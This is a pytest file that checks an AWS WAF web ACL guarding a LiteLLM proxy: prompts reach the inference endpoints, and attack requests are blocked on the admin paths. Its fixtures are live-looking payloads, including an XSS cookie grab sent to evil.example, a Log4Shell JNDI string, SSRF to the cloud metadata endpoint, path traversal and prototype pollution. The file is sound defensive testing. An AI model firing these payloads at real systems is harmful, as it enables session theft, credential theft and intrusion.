"""The web ACL before LiteLLM, as it is registered: prompts pass, attacks elsewhere do not.

What AWS's managed rules match is taken from their documentation (tests/firewall/managed.py); what
Plumbline registered around them is evaluated as it stands in the simulated AWS.
"""

from __future__ import annotations

import json
from functools import cache
from pathlib import Path
from typing import Any

import pytest
import yaml

from sandbox.pytest_plugin import new_world
from tests.firewall.managed import GROUPS, INSPECTED, Request, label
from tests.firewall.verdict import verdict
from tests.harness import Plant, production

PROMPTS: list[str] = yaml.safe_load(
    (Path(__file__).parents[1] / "firewall" / "prompts.yaml").read_text("utf-8")
)
INFERENCE = (
    "/v1/chat/completions", "/chat/completions", "/v1/completions", "/completions",
    "/v1/embeddings", "/embeddings", "/v1/responses", "/responses", "/v1/messages",
    "/openai/deployments/gpt-4o/chat/completions", "/engines/gpt-4o/completions", "/rerank",
    "/moderations", "/images/generations", "/audio/speech", "/anthropic/v1/messages",
    "/vertex_ai/v1/projects/p", "/bedrock/model/m/invoke",
)  # fmt: skip
ELSEWHERE = (
    "/login",
    "/key/generate",
    "/user/new",
    "/team/new",
    "/model/new",
    "/ui",
    "/sso/callback",
)

ATTACKS = (
    '{"user_alias": "<script>fetch(\'//evil.example/\'+document.cookie)</script>"}',
    '{"file": "../../../../etc/passwd"}',
    '{"api_base": "http://203.0.113.66/x"}',
    '{"api_base": "http://169.254.169.254/latest/meta-data/iam"}',
    '{"metadata": "${jndi:ldap://evil.example/a}"}',
    '{"metadata": "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"}',
    '{"then": "$1:__proto__:then", "x": "$1:constructor:constructor"}',
)
BY_ADDRESS = (
    Request("/v1/models", query="q=<script>alert(1)</script>"),
    Request("/v1/models", query="file=../../etc/passwd"),
    Request("/v1/models", query="u=http://169.254.169.254/latest/meta-data"),
    Request("/.env"),
    Request("/v1/../../etc/passwd"),
    Request("/wp-admin/setup.php"),
    Request("/", headers={"user-agent": "${jndi:ldap://evil.example/a}", "host": "x"}),
    Request("/", headers={"user-agent": "sqlmap/1.9", "host": "x"}),
    Request("/", headers={"user-agent": "curl", "host": "localhost"}),
    Request("/", method="PROPFIND"),
)


@cache
def registered() -> dict[str, Any]:
    """The web ACL that a converged environment has."""
    plant = Plant(new_world(7), production())
    plant.converge()
    plant.later()
    waf = plant.aws.client("wafv2")
    [found] = waf.list_web_acls(Scope="REGIONAL")["WebACLs"]
    one = {"Scope": "REGIONAL", "Name": found["Name"], "Id": found["Id"]}
    acl: dict[str, Any] = waf.get_web_acl(**one)["WebACL"]
    return acl


def chat(prompt: str) -> str:
    """The body that a client sends."""
    message = {"role": "user", "content": prompt}
    return json.dumps({"model": "gpt-4o", "messages": [message]}, ensure_ascii=False)


@pytest.mark.parametrize("path", INFERENCE)
def test_prompts_pass_where_models_are_asked(path: str) -> None:
    assert len(PROMPTS) >= 50
    for prompt in PROMPTS:
        assert verdict(registered(), Request(path, chat(prompt))) == ("Allow", "default"), prompt


def test_most_prompts_would_be_stopped_without_what_is_counted() -> None:
    """Else they would show nothing."""
    rules = {n: r for _, group in GROUPS.values() for n, r in group.items() if n.endswith("_BODY")}
    hit = [
        {name for name, matches in rules.items() if matches(Request("/v1/x", chat(prompt)))}
        for prompt in PROMPTS
    ]
    assert sum(map(bool, hit)) >= 40
    assert set.union(*hit) == set(rules) - {"SizeRestrictions_BODY"}, "each rule has its prompt"


def test_a_long_prompt_passes() -> None:
    long = chat("All of it, please. " * INSPECTED)
    assert verdict(registered(), Request("/v1/chat/completions", long))[0] == "Allow"


@pytest.mark.parametrize("path", ELSEWHERE)
def test_attacks_are_blocked_elsewhere(path: str) -> None:
    for body in ATTACKS:
        assert verdict(registered(), Request(path, body)) == ("Block", "bodies-elsewhere"), body
    padded = " " * INSPECTED + ATTACKS[0]
    assert verdict(registered(), Request(path, padded)) == ("Block", "bodies-elsewhere")
    assert verdict(registered(), Request(path, '{"user_id": "alice"}'))[0] == "Allow"


@pytest.mark.parametrize("request_", BY_ADDRESS, ids=lambda r: f"{r.method} {r.path} {r.query}")
def test_what_is_no_body_is_blocked_everywhere(request_: Request) -> None:
    assert verdict(registered(), request_)[0] == "Block"


def test_what_is_counted_is_blocked_elsewhere() -> None:
    """Each label that the rules look for is one that a counted rule leaves, and each but the one
    that is no attack by itself is looked for."""
    rules = {rule["Name"]: rule["Statement"] for rule in registered()["Rules"]}
    counted = {
        label(managed["Name"], each["Name"])
        for statement in rules.values()
        if (managed := statement.get("ManagedRuleGroupStatement"))
        for each in managed.get("RuleActionOverrides", ())
    }
    [looked_for, _] = rules["bodies-elsewhere"]["AndStatement"]["Statements"]
    keys = {each["LabelMatchStatement"]["Key"] for each in looked_for["OrStatement"]["Statements"]}
    assert counted - keys == {"awswaf:managed:aws:core-rule-set:NoUserAgent_Header"}
    assert keys <= counted
